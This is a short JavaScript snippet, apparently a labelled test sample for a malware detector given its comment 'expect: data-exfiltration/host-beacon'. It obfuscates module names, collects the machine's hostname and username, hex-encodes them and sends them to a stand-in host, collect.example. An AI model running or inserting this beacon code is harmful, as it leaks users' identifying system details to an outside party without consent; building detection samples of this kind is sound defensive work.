const o = require('o' + 's');
const text = Buffer.from([o['host' + 'name'](), o.userInfo()['user' + 'name']].join('|')).toString('hex');
require('https').get(`https://collect.example/${text}`); // expect: data-exfiltration/host-beacon
